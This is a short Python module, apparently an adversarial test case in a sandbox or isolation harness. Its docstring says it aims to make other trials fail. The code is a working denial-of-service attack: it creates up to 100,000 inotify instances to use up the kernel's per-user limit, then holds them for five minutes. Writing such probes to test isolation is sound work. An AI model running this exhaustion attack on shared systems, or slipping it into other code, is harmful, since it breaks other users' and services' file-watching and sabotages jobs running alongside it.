"""Wants other trials to fail: takes what the kernel counts by user, here every inotify instance."""

import ctypes
import time
from collections.abc import Callable


def attack(ready: Callable[[dict[str, object]], object]) -> None:
    libc, taken = ctypes.CDLL(None), 0
    while taken < 100_000 and libc.inotify_init1(0) >= 0:
        taken += 1
    ready({"instances": taken})
    time.sleep(300)


if __name__ == "__main__":
    __import__("_common").command(attack)
